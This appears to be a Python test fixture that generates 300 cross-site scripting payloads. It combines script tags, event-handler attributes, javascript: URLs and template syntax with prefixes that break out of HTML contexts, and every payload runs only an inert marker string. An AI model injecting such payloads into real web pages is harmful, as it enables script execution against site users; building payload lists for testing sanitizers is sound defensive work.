"""300 ways to get a script out of words: put on a page as they are, most of them would run."""

from __future__ import annotations

MARK = "xssmaerke"
ACTS = (
    f"<script>{MARK}</script>",
    f"<img src=x onerror={MARK}>",
    f"<svg onload={MARK}>",
    f"<svg/onload={MARK}>",
    f"<body onload={MARK}>",
    f"<a href=javascript:{MARK}>x</a>",
    f"<a href='java\tscript:{MARK}'>x</a>",
    f"<iframe srcdoc='<script>{MARK}</script>'></iframe>",
    f"<iframe src=javascript:{MARK}></iframe>",
    f"<math><mi xlink:href=javascript:{MARK}></mi></math>",
    f"<details open ontoggle={MARK}>",
    f"<style>{MARK}</style>",
    f"<input autofocus onfocus={MARK}>",
    f"<form action=javascript:{MARK}><button>x</button></form>",
    f"<base href=//{MARK}>",
    f"<meta http-equiv=refresh content=0;url={MARK}>",
    f"<object data={MARK}></object>",
    f"<embed src={MARK}>",
    f"<video><source onerror={MARK}></video>",
    f"<template><script>{MARK}</script></template>",
    f"onmouseover={MARK} x=",
    f"${{{MARK}}}",
    f"{{{{{MARK}}}}}",
    f"<!--<img src=x onerror={MARK}>-->",
    f"<p style=background:url({MARK})>",
)
ESCAPES = (
    "{}",
    "'>{}",
    '">{}',
    "</textarea>{}",
    "</title>{}",
    "</script>{}",
    "--></p>{}",
    "]]>{}",
    "</select></option>{}",
    "<!--{}",
    "\\u003c\\u003e{}",
    "</template></svg>{}",
)
PAYLOADS = [escape.format(act) for escape in ESCAPES for act in ACTS]
